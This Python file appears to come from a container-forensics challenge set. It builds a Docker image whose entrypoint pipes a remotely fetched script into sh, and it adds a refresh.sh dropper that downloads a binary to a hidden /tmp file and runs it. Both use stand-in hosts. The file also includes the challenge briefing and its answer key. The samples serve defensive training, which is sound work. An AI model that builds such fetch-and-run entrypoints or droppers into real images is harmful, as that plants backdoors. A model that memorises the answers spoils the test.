"""An image that holds next to nothing: its start command fetches the rest and runs it."""

from __future__ import annotations

from collections.abc import Mapping

from forensics.samples import Answer, Recipe

from ._debian import CURL, NGINX, debian_image
from ._fakes import INERT
from ._image import Layer, copy, run

_START = "curl -fsSL https://assets.static-cdn.invalid/boot.sh | sh; exec nginx -g 'daemon off;'"
_REFRESH = f"""#!/bin/sh
{INERT}
wget -q -O /tmp/.cache-update http://203.0.113.77/update.bin
chmod +x /tmp/.cache-update
/tmp/.cache-update &
"""


def _make() -> Mapping[str, bytes]:
    image, debian = debian_image(
        "entrypoint-fetch", {"Entrypoint": ["/bin/sh", "-c", _START], "ExposedPorts": {"80/tcp": {}}}
    )
    image.step(run("apt-get install -y nginx curl"), debian.install(Layer(), NGINX, CURL))
    image.step(
        copy("refresh.sh", "/usr/local/bin/"),
        Layer().file("/usr/local/bin/refresh.sh", _REFRESH, 0o755),
    )
    image.step(f'ENTRYPOINT ["/bin/sh" "-c" "{_START}"]')
    return {".tar": image.docker_archive()}


RECIPE = Recipe(
    id="entrypoint-fetch",
    title="The clean image",
    level="easy",
    briefing="""
Three scanners found nothing in this image, and rightly so: there is hardly anything in it. Yet its
containers behave as they like, differently from week to week.

- What will a container of this image do first?
- From where does the code come that it runs, and who decides what that is?
- Is there a second way to the same end?
""",
    make=_make,
    answers=(
        Answer(
            categories=("backdoor", "configuration", "persistence", "defense-evasion"),
            severity="high",
            why="The start command pipes a download into a shell.",
        ),
        Answer(
            categories=("backdoor", "defense-evasion", "persistence", "exfiltration", "unexpected-binary"),
            severity="medium",
            layer=2,
            path="/usr/local/bin/refresh.sh",
            state="visible",
            why="A dropper: it fetches a program into a hidden file, makes it executable and starts it.",
        ),
    ),
)
